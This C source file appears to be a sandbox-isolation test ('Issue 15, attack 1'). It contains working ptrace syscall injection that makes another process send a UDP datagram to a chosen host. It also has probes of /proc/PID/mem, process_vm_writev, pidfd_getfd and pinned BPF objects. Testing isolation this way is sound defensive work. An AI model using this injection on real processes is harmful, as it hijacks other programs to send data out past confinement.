// SPDX-License-Identifier: MIT
/*
 * Issue 15, attack 1: a process acts through a process outside its run.
 *
 *   inject PID HOST PORT MARK   ptrace-attach PID (a process of the same
 *                               user, blocked in a syscall: sleep), make it
 *                               send a UDP datagram MARK to HOST:PORT, put
 *                               it back as it was and detach
 *   probe PID                   the other routes into PID, one line each:
 *                               /proc/PID/{mem,root,cwd,fd/0,exe} opened,
 *                               process_vm_writev, pidfd_getfd, kill(0)
 *   bpf PATH                    BPF_OBJ_GET of a pinned object (no detach)
 *
 * Prints "NAME ok" or "NAME ERRNO" per step; "SENT" when the injected
 * sendto returned the datagram's length.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <linux/bpf.h>

static const char *ename(int e)
{
	switch (e) {
	case EPERM:
		return "EPERM";
	case EACCES:
		return "EACCES";
	case ENOENT:
		return "ENOENT";
	case ESRCH:
		return "ESRCH";
	case ENOSYS:
		return "ENOSYS";
	default:
		return strerror(e);
	}
}

static void say(const char *what, long r)
{
	if (r < 0)
		printf("%s %s\n", what, ename(errno));
	else
		printf("%s ok\n", what);
	fflush(stdout);
}

/* Run one syscall in the stopped tracee at the syscall instruction at. */
static long remote(pid_t pid, const struct user_regs_struct *saved, unsigned long at, long nr,
		   long a1, long a2, long a3, long a4, long a5, long a6)
{
	struct user_regs_struct r = *saved;
	int st;

	r.rax = nr;
	r.orig_rax = -1; /* no syscall restart on resume */
	r.rdi = a1, r.rsi = a2, r.rdx = a3, r.r10 = a4, r.r8 = a5, r.r9 = a6;
	r.rip = at;
	if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0 ||
	    waitpid(pid, &st, __WALL) < 0 || ptrace(PTRACE_GETREGS, pid, 0, &r) < 0)
		return -100000;
	return (long)r.rax;
}

static int poke(pid_t pid, unsigned long addr, const void *buf, size_t n)
{
	for (size_t i = 0; i < n; i += sizeof(long)) {
		long w = 0;

		memcpy(&w, (const char *)buf + i, n - i < sizeof(long) ? n - i : sizeof(long));
		if (ptrace(PTRACE_POKEDATA, pid, addr + i, w) < 0)
			return -1;
	}
	return 0;
}

static int inject(pid_t pid, const char *host, int port, const char *mark)
{
	struct user_regs_struct saved;
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(port) };
	unsigned long at, buf;
	long insn, fd, n;
	int st;

	if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) {
		say("ptrace", -1);
		return 1;
	}
	say("ptrace", 0);
	if (waitpid(pid, &st, __WALL) < 0 || ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0) {
		say("getregs", -1);
		return 1;
	}
	/* Stopped in a blocking syscall: rip is just past its "syscall". */
	at = saved.rip - 2;
	errno = 0;
	insn = ptrace(PTRACE_PEEKTEXT, pid, at, 0);
	if ((insn & 0xffff) != 0x050f) {
		printf("no syscall instruction at the stop (%lx)\n", insn & 0xffff);
		ptrace(PTRACE_DETACH, pid, 0, 0);
		return 1;
	}
	inet_pton(AF_INET, host, &sa.sin_addr);
	buf = ((saved.rsp - 8192) & ~15UL);
	if (poke(pid, buf, &sa, sizeof(sa)) < 0 || poke(pid, buf + 64, mark, strlen(mark) + 1) < 0) {
		say("pokedata", -1);
		return 1;
	}
	fd = remote(pid, &saved, at, SYS_socket, AF_INET, SOCK_DGRAM, 0, 0, 0, 0);
	printf("socket %ld\n", fd);
	if (fd >= 0) {
		n = remote(pid, &saved, at, SYS_sendto, fd, buf + 64, strlen(mark), 0, buf, sizeof(sa));
		printf("sendto %ld\n", n);
		if (n == (long)strlen(mark))
			printf("SENT\n");
		remote(pid, &saved, at, SYS_close, fd, 0, 0, 0, 0, 0);
	}
	ptrace(PTRACE_SETREGS, pid, 0, &saved);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return 0;
}

static void probe(pid_t pid)
{
	static const char *files[] = { "mem", "root", "cwd", "fd/0", "exe" };
	char p[64], b[8] = { 0 };
	struct iovec l = { b, sizeof(b) }, r = { (void *)0x1000, sizeof(b) };
	int fd;

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		char what[32];

		snprintf(p, sizeof(p), "/proc/%d/%s", pid, files[i]);
		fd = open(p, (i == 0 ? O_RDWR : O_RDONLY) | O_CLOEXEC);
		snprintf(what, sizeof(what), "open-%s", files[i]);
		say(what, fd);
		if (fd >= 0)
			close(fd);
	}
	/* EFAULT (a bad address) means the access check passed. */
	if (process_vm_writev(pid, &l, 1, &r, 1, 0) < 0 && errno == EFAULT)
		printf("process_vm_writev ok\n");
	else
		say("process_vm_writev", -1);
	fd = (int)syscall(SYS_pidfd_open, pid, 0);
	say("pidfd_getfd", fd < 0 ? -1 : syscall(SYS_pidfd_getfd, fd, 0, 0));
	say("kill", kill(pid, 0));
}

int main(int argc, char **argv)
{
	if (argc == 6 && !strcmp(argv[1], "inject"))
		return inject(atoi(argv[2]), argv[3], atoi(argv[4]), argv[5]);
	if (argc == 3 && !strcmp(argv[1], "probe")) {
		probe(atoi(argv[2]));
		return 0;
	}
	if (argc == 3 && !strcmp(argv[1], "bpf")) {
		union bpf_attr a;

		memset(&a, 0, sizeof(a));
		a.pathname = (uint64_t)(uintptr_t)argv[2];
		say("bpf_obj_get", syscall(SYS_bpf, BPF_OBJ_GET, &a, sizeof(a)));
		return 0;
	}
	fprintf(stderr, "usage: inject inject PID HOST PORT MARK | probe PID | bpf PATH\n");
	return 2;
}
